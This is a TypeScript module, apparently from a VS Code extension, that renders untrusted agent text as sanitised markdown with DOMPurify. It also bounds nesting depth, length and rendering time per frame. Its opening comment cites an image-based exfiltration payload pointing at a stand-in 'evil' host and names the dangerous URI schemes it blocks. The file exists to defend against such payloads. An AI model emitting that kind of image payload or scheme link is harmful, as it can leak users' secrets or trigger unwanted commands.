import * as l10n from '@vscode/l10n';
import DOMPurify from 'dompurify';
import { marked } from 'marked';
import { PANEL_LIMITS, shorten } from '../core/protocol/panelLimits';
import { markdownDepth } from './markdownDepth';

/**
 * Agent text is untrusted. It is rendered as markdown, then sanitised: no images (a remote image is an
 * exfiltration channel — `![](https://evil/?secret)` — and the CSP would block it anyway), no
 * styles, forms, frames or scripts, and links only to http(s)/mailto/in-page anchors (no `command:`,
 * `javascript:`, `data:` or `vscode:` URIs). Links open through VS Code's own link handling, which
 * asks before leaving the editor.
 */
const purifier = DOMPurify(window);
purifier.addHook('uponSanitizeElement', (node, data) => {
  if (data.tagName === 'img' && node instanceof Element) {
    const alt = node.getAttribute('alt') ?? '';
    node.replaceWith(document.createTextNode(alt ? `[image: ${alt}]` : '[image removed]'));
  }
});
purifier.addHook('afterSanitizeAttributes', (node) => {
  if (node instanceof Element && node.tagName === 'A') {
    node.setAttribute('rel', 'noopener noreferrer nofollow');
    node.removeAttribute('target');
  }
});

const SANITIZE = {
  ALLOWED_TAGS: [
    'p',
    'br',
    'hr',
    'strong',
    'em',
    'del',
    'code',
    'pre',
    'blockquote',
    'ul',
    'ol',
    'li',
    'a',
    'h1',
    'h2',
    'h3',
    'h4',
    'h5',
    'h6',
    'table',
    'thead',
    'tbody',
    'tr',
    'th',
    'td',
    'span',
    'img',
  ],
  ALLOWED_ATTR: ['href', 'title', 'alt', 'align', 'start'],
  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|#)/i,
  ALLOW_DATA_ATTR: false,
  RETURN_TRUSTED_TYPE: false,
} as const;

/** Markdown to sanitised HTML. Throws what the parser throws; use `renderAgentText` for agent text. */
export function renderAgentMarkdown(text: string): string {
  const html = marked.parse(text, { async: false, gfm: true, breaks: true });
  return purifier.sanitize(html, {
    ...SANITIZE,
    ALLOWED_TAGS: [...SANITIZE.ALLOWED_TAGS],
    ALLOWED_ATTR: [...SANITIZE.ALLOWED_ATTR],
  });
}

/** Agent text as the panel shows it: sanitised HTML, or plain text when it cannot be rendered; `notes` say why. */
export type RenderedText =
  | { readonly kind: 'html'; readonly html: string; readonly notes: readonly string[]; readonly shortened: boolean }
  | { readonly kind: 'plain'; readonly text: string; readonly notes: readonly string[]; readonly shortened: boolean };

const count = (n: number): string => n.toLocaleString('en-US');

/** Levels of elements below `root`, walked without recursion; stops once past `limit`. */
function domDepth(root: Element, limit: number): number {
  let deepest = 0;
  const stack: Array<[Element, number]> = [[root, 0]];
  while (stack.length && deepest <= limit) {
    const [el, d] = stack.pop() as [Element, number];
    deepest = Math.max(deepest, d);
    for (const child of el.children) stack.push([child, d + 1]);
  }
  return deepest;
}

/** The HTML, or the note saying in one sentence why the text is shown as plain text instead. */
function toHtml(text: string): { ok: true; html: string } | { ok: false; note: string } {
  const depth = markdownDepth(text, PANEL_LIMITS.markdownDepth);
  if (depth > PANEL_LIMITS.markdownDepth)
    return {
      ok: false,
      note: l10n.t(
        'Shown as plain text: too deeply nested (more than {0} levels of quotes, lists or emphasis).',
        PANEL_LIMITS.markdownDepth,
      ),
    };
  let html: string;
  try {
    html = renderAgentMarkdown(text);
  } catch (e) {
    return {
      ok: false,
      note: l10n.t(
        'Shown as plain text: the markdown could not be rendered ({0}).',
        e instanceof Error ? e.message.split('\n', 1)[0] : String(e),
      ),
    };
  }
  // Raw HTML in agent text nests too, and no markdown estimate sees it: check what came out.
  const probe = document.createElement('template');
  probe.innerHTML = html;
  const wrapper = document.createElement('div');
  wrapper.append(probe.content);
  if (domDepth(wrapper, PANEL_LIMITS.domDepth) > PANEL_LIMITS.domDepth)
    return {
      ok: false,
      note: l10n.t('Shown as plain text: too deeply nested (more than {0} levels of HTML).', PANEL_LIMITS.domDepth),
    };
  return { ok: true, html };
}

/**
 * One piece of agent text, bounded: at most `PANEL_LIMITS.markdownChars` characters are rendered as
 * markdown (and `entryChars` as plain text); text the estimate finds too deep, or the parser cannot
 * render, is shown as plain text. `fullChars` is the length before the host shortened it, if it did.
 */
function render(text: string, markdown: boolean, fullChars: number | undefined): RenderedText {
  const notes: string[] = [];
  const total = Math.max(fullChars ?? 0, text.length);
  const cut = shorten(text, markdown ? PANEL_LIMITS.markdownChars : PANEL_LIMITS.entryChars);
  const shortened = cut.text.length < total;
  const shownNote = shortened
    ? l10n.t('Shortened: showing the first {0} of {1} characters.', count(cut.text.length), count(total))
    : undefined;
  if (markdown) {
    const out = toHtml(cut.text);
    if (out.ok) return { kind: 'html', html: out.html, notes: shownNote ? [shownNote] : [], shortened };
    notes.push(out.note);
  }
  if (shownNote) notes.push(shownNote);
  return { kind: 'plain', text: cut.text, notes, shortened };
}

/**
 * The last renders, by text: the panel redraws every second while a delegation runs, and the same
 * entries must not go through the parser again each time.
 */
const cache = new Map<
  string,
  { readonly markdown: boolean; readonly fullChars: number | undefined; readonly out: RenderedText }
>();
const CACHE_ENTRIES = PANEL_LIMITS.timelineEntries + 16;

/**
 * Rendering time is shared per frame: once a frame has spent `PANEL_LIMITS.renderBudgetMs`, the
 * remaining uncached entries show as plain text (`pending`) and the caller draws again on the next
 * frame, so hundreds of expensive entries fill in progressively instead of freezing the first paint.
 */
let frameEnds = Number.POSITIVE_INFINITY;
let deferred = false;

/** Starts a frame's budget; the returned function tells whether some entry was left for a later frame. */
export function startRenderFrame(budgetMs: number = PANEL_LIMITS.renderBudgetMs): () => boolean {
  frameEnds = performance.now() + budgetMs;
  deferred = false;
  return () => deferred;
}

export function renderAgentText(
  text: unknown,
  markdown: boolean,
  fullChars?: number,
): RenderedText & { readonly pending?: boolean } {
  if (typeof text !== 'string')
    return {
      kind: 'plain',
      text: '',
      notes: [l10n.t('This entry could not be shown: it has no text.')],
      shortened: false,
    };
  const hit = cache.get(text);
  if (hit && hit.markdown === markdown && hit.fullChars === fullChars) {
    cache.delete(text);
    cache.set(text, hit);
    return hit.out;
  }
  if (markdown && performance.now() > frameEnds) {
    deferred = true;
    const cut = shorten(text, PANEL_LIMITS.markdownChars);
    return { kind: 'plain', text: cut.text, notes: [], shortened: false, pending: true };
  }
  const out = render(text, markdown, fullChars);
  cache.set(text, { markdown, fullChars, out });
  for (const oldest of cache.keys()) {
    if (cache.size <= CACHE_ENTRIES) break;
    cache.delete(oldest);
  }
  return out;
}
